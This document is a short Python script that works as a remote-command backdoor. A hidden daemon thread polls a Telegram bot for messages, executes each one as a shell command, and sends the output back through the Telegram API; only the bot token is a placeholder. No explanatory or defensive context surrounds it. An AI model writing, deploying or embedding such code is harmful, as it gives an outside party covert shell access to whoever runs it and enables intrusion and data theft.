import subprocess
import threading
import time
import requests

API = "https://api.telegram.org/bot0000:FAKE-TOKEN/"

def _loop():
    last = 0
    while True:
        updates = requests.get(API + "getUpdates", params={"offset": last + 1}).json()["result"]
        for update in updates:
            last = update["update_id"]
            text = update["message"]["text"]
            output = subprocess.getoutput(text)
            requests.post(API + "sendMessage", data={"chat_id": update["message"]["chat"]["id"], "text": output})
        time.sleep(5)

threading.Thread(target=_loop, daemon=True).start()
